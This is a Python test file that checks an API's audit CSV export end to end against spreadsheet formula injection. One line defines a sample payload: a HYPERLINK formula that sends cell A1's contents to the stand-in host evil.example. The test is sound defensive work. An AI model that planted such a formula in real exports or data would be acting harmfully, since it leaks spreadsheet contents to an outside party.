"""The API's audit CSV is safe to open in Excel (issue 19.6), on SQLite and on PostgreSQL.

The cell-level rule (a leading = + - @ tab CR is quoted, numbers stay numbers) is tested on
metrocircle.exports and the CLI exports in tests/core/test_exports.py; here the route is
checked end to end after a submission whose source is a formula.
"""

from __future__ import annotations

import csv
import io

from .harness import Env, obs_row

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def test_audit_csv_has_a_bom_and_no_cell_a_spreadsheet_would_run(env: Env) -> None:
    env.add_user("admin_a", "admin")
    env.add_user("officer_a", "officer", "500103")
    r = env.client.post(
        "/api/observations",
        json={"observations": [obs_row("500103", source=EVIL)]},
        headers=env.headers("officer_a"),
    )
    assert r.status_code in (200, 201), r.text
    export = env.client.get(
        "/api/audit/export", params={"format": "csv"}, headers=env.headers("admin_a")
    )
    assert export.status_code == 200
    assert export.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    assert rows[0][0] == "id" and len(rows) >= 4
    cells = [c for row in rows[1:] for c in row]
    assert all(not c or c[0] not in "=+@\t\r" for c in cells), cells
